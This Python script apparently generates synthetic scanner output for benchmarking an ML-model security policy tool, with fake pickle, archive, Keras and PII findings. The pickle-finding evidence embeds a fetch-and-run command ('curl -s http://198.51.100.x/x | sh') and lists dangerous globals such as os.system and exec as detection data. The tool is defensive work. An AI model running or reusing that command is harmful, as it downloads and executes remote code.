#!/usr/bin/env python3
"""Synthetic policy input for `mlsec policy eval`, shaped like the input.json
that `mlsec check` writes into its evidence folder.

    gen.py TEMPLATE OUT --findings N [--files F] [--pii P] [--seed S]

TEMPLATE is a real input.json (bench/check/run.sh makes one from examples/).
Its project, models, datasets, checks and every envelope are kept; the `scan`
envelope gets N findings over F model files and the `data.pii` envelope P
findings over a few CSV files, in the shapes `mlsec scan` and `mlsec data pii`
write (rule, severity, category, subject, message, location, member, offset,
evidence; PII: entity, preview, span, confidence). The checks' finding counts
follow. Timestamps and serial numbers are fixed so that equal arguments give
byte-identical files. N=0, P=0 keeps the F files (and their lists) and drops
every finding: the baseline that isolates the findings' cost.
"""
import argparse
import copy
import json
import random

# (rule, severity, category, weight): a mix like a scan of a large model zoo
# with hostile downloads: many pickle findings, archive tricks, Keras Lambdas,
# and the low/info notes that ride along. Severities as `mlsec rules`.
SCAN_RULES = [
    ("PKL001", "critical", "malicious", 14),
    ("PKL002", "high", "suspicious", 18),
    ("PKL003", "low", "suspicious", 12),
    ("PKL007", "medium", "suspicious", 8),
    ("PKL004", "high", "malicious", 2),
    ("PKL009", "critical", "malicious", 1),
    ("ARC001", "high", "malicious", 3),
    ("ARC002", "high", "suspicious", 2),
    ("ARC005", "high", "suspicious", 2),
    ("ARC008", "high", "suspicious", 2),
    ("ARC009", "high", "suspicious", 4),
    ("ARC010", "high", "suspicious", 2),
    ("ARC011", "high", "error", 1),
    ("KER001", "critical", "malicious", 5),
    ("KER003", "medium", "suspicious", 4),
    ("NPY002", "medium", "info", 6),
    ("TOR001", "info", "info", 8),
    ("ONX004", "info", "info", 4),
    ("GGF004", "low", "info", 2),
]

GLOBALS = [
    ("os", "system", "PKL001"), ("subprocess", "Popen", "PKL001"),
    ("builtins", "eval", "PKL001"), ("builtins", "exec", "PKL001"),
    ("runpy", "run_path", "PKL001"), ("posix", "system", "PKL001"),
    ("builtins", "getattr", "PKL002"), ("importlib", "import_module", "PKL002"),
    ("numpy.testing._private.utils", "runstring", "PKL002"),
    ("torch.serialization", "load", "PKL002"), ("pickle", "loads", "PKL002"),
    ("collections", "OrderedDict", "PKL003"), ("torch._utils", "_rebuild_parameter", "PKL003"),
    ("sklearn.pipeline", "Pipeline", "PKL007"), ("mypkg.models", "Encoder", "PKL007"),
]

FORMATS = [("pytorch-zip", ".pt"), ("pickle", ".pkl"), ("joblib", ".joblib"),
           ("keras", ".keras"), ("numpy", ".npy"), ("onnx", ".onnx"), ("gguf", ".gguf")]

PII_ENTITIES = ["EMAIL", "PHONE", "PERSON", "LOCATION", "STREET_ADDRESS", "DATE_OF_BIRTH",
                "IP_ADDRESS", "CREDIT_CARD", "IBAN", "ORGANIZATION", "URL"]
SECRETS = ["AWS_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_KEY", "PASSWORD", "PRIVATE_KEY"]
# Each column holds what its name says; free-text columns (None) hold any
# personal data and, now and then (3%), a secret.
COLUMNS = {
    "note": None, "ticket_text": None,
    "customer": ["PERSON"], "agent": ["PERSON"], "email": ["EMAIL"], "phone": ["PHONE"],
    "address": ["STREET_ADDRESS", "LOCATION"], "ip": ["IP_ADDRESS"],
}

# A file's verdict is its worst finding's category (info leaves it clean).
RANK = {"clean": 0, "suspicious": 1, "error": 2, "malicious": 3}

FIXED_TIME = "2026-01-01T00:00:00Z"


def fix_times(v):
    """Fixed timestamps and serial numbers, so outputs compare byte for byte."""
    if isinstance(v, dict):
        for k, x in v.items():
            if k in ("created", "timestamp") and isinstance(x, str):
                v[k] = FIXED_TIME
            elif k == "serialNumber":
                v[k] = "urn:uuid:00000000-0000-4000-8000-000000000000"
            else:
                fix_times(x)
    elif isinstance(v, list):
        for x in v:
            fix_times(x)


def counts_of(findings):
    c = {s: 0 for s in ("critical", "high", "info", "low", "medium")}
    for f in findings:
        c[f["severity"]] += 1
    return c


def scan_finding(rng, rule, severity, category, path, fmt):
    f = {"category": category, "rule": rule, "severity": severity, "subject": path}
    archive = fmt in ("pytorch-zip", "keras")
    member = "archive/data.pkl" if fmt == "pytorch-zip" else "config.json"
    if rule.startswith("PKL"):
        mod, name, _ = rng.choice([g for g in GLOBALS if g[2] == rule] or GLOBALS)
        off = rng.randrange(2, 1 << 20)
        called = rule == "PKL001"
        ev = {"called": called, "global": f"{mod}.{name}", "module": mod, "name": name,
              "offsets": [off], "opcode": rng.choice(["GLOBAL", "STACK_GLOBAL", "INST"]),
              "passed_to_call": False}
        if called:
            ev["calls"] = [f'{mod}.{name}("curl -s http://198.51.100.{rng.randrange(1, 255)}/x | sh") via REDUCE']
            msg = f"`{mod}.{name}` runs commands and touches files; called as {ev['calls'][0]}"
        else:
            msg = f"`{mod}.{name}` is imported by the pickle and is not on the safe list"
        f.update(evidence=ev, message=msg, offset=off)
        f["location"] = f"{member}@{off}" if archive else f"@{off}"
        if archive:
            f["member"] = member
    elif rule.startswith("ARC"):
        off = rng.randrange(0, 1 << 24)
        f.update(evidence={"archive_offset": off, "central_flags": 2057, "local_flags": 2057},
                 message=f"{rule}: archive member header at offset {off} disagrees with the central directory",
                 location=member, member=member)
    elif rule.startswith("KER"):
        layer = f"lambda_{rng.randrange(100)}"
        f.update(evidence={"bytecode_bytes": rng.randrange(100, 4000), "json_path": f"$.config.layers[{rng.randrange(40)}]",
                           "layer": layer, "names": ["os", "system", "__import__"], "source": "config"},
                 message=f"Lambda layer `{layer}` in the Keras config runs Python code when the model loads",
                 location="config.json", member="config.json")
    else:
        f.update(evidence={"detail": rng.randrange(1 << 16)},
                 message=f"{rule}: note about {path.rsplit('/', 1)[-1]}",
                 location=f"@{rng.randrange(1 << 16)}")
    return f


def make_scan(env, rng, n, nfiles):
    files, subjects = [], []
    for i in range(nfiles):
        fmt, ext = FORMATS[i % len(FORMATS)]
        path = f"models/zoo-{i // 100:03d}/file-{i:06d}{ext}"
        files.append({"format": fmt, "path": path, "size": rng.randrange(100, 1 << 30), "verdict": "clean"})
        subjects.append({"digest": {}, "name": path})
    weights = [w for *_, w in SCAN_RULES]
    findings = []
    for _ in range(n):
        rule, sev, cat, _ = rng.choices(SCAN_RULES, weights)[0]
        file = files[rng.randrange(nfiles)]
        findings.append(scan_finding(rng, rule, sev, cat, file["path"], file["format"]))
        if RANK.get(cat, 0) > RANK[file["verdict"]]:
            file["verdict"] = cat
    findings.sort(key=lambda f: (f["subject"], f.get("offset", 0)))
    verdicts = {}
    for f in files:
        verdicts[f["verdict"]] = verdicts.get(f["verdict"], 0) + 1
    env["findings"] = findings
    env["subjects"] = subjects
    env["details"]["files"] = files
    env["details"]["verdicts"] = verdicts
    env["summary"]["counts"] = counts_of(findings)
    env["summary"]["verdict"] = "fail" if any(f["severity"] in ("high", "critical") for f in findings) else "pass"


def make_pii(env, rng, n, nfiles=12):
    paths = [f"data/tickets-{i:02d}.csv" for i in range(nfiles)]
    findings = []
    tally = {}
    for _ in range(n):
        path = rng.choice(paths)
        column = rng.choice(sorted(COLUMNS))
        secret = COLUMNS[column] is None and rng.random() < 0.03
        entity = rng.choice(SECRETS if secret else COLUMNS[column] or PII_ENTITIES)
        row = rng.randrange(2, 200000)
        start = rng.randrange(0, 200)
        end = start + rng.randrange(5, 40)
        preview = entity[0].lower() + "*" * (end - start - 2) + "x"
        findings.append({
            "category": "suspicious", "confidence": round(rng.uniform(0.5, 0.99), 2),
            "entity": entity, "location": f"row {row} [{column}]:{start}-{end}",
            "message": f"{entity} {preview}", "preview": preview,
            "rule": "PII002" if secret else "PII001", "severity": "high" if secret else "medium",
            "span": {"column": column, "end": end, "row": row, "start": start}, "subject": path,
        })
        tally[(path, column, entity)] = tally.get((path, column, entity), 0) + 1
    findings.sort(key=lambda f: (f["subject"], f["span"]["row"]))
    files, entities = [], {}
    for path in paths:
        counts = []
        for (p, column, entity), listed in sorted(tally.items()):
            if p != path:
                continue
            # The file holds more than the envelope lists (the cap is per
            # column and entity).
            count = listed * rng.randrange(1, 4)
            counts.append({"column": column, "count": count, "entity": entity})
            entities[entity] = entities.get(entity, 0) + count
        nf = sum(c["count"] for c in counts)
        files.append({"bytes": rng.randrange(1 << 20, 1 << 28), "counts": counts, "findings": nf, "format": "csv",
                      "listed": sum(v for (p, *_), v in tally.items() if p == path), "path": path,
                      "verdict": "suspicious" if counts else "clean"})
    env["findings"] = findings
    env["subjects"] = [{"digest": {}, "name": p} for p in paths]
    env["details"]["files"] = files
    env["details"]["entities"] = dict(sorted(entities.items()))
    env["summary"]["counts"] = counts_of(findings)
    env["summary"]["verdict"] = "fail" if any(f["severity"] == "high" for f in findings) else "pass"


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("template")
    ap.add_argument("out")
    ap.add_argument("--findings", type=int, default=10000, help="scan findings")
    ap.add_argument("--files", type=int, default=2000, help="model files they spread over")
    ap.add_argument("--pii", type=int, default=3000, help="data.pii findings")
    ap.add_argument("--seed", type=int, default=18)
    a = ap.parse_args()
    rng = random.Random(a.seed)
    doc = json.load(open(a.template))
    fix_times(doc)
    ev = doc["evidence"]
    scan = ev["scan"][0]
    pii = ev["data.pii"][0]
    make_scan(scan, rng, a.findings, a.files)
    make_pii(pii, rng, a.pii)
    for c in doc["checks"]:
        if c.get("evidence_kind") == "scan":
            c.update(findings=len(scan["findings"]), verdict=scan["summary"]["verdict"])
        elif c.get("evidence_kind") == "data.pii":
            c.update(findings=len(pii["findings"]), verdict=pii["summary"]["verdict"])
    with open(a.out, "w") as f:
        json.dump(doc, f, indent=2, sort_keys=True)
        f.write("\n")
    n = sum(len(e.get("findings", [])) for v in ev.values() for e in v)
    print(f"{a.out}: {len(scan['findings'])} scan findings over {a.files} files, "
          f"{len(pii['findings'])} PII findings, {n} findings in all")


if __name__ == "__main__":
    main()
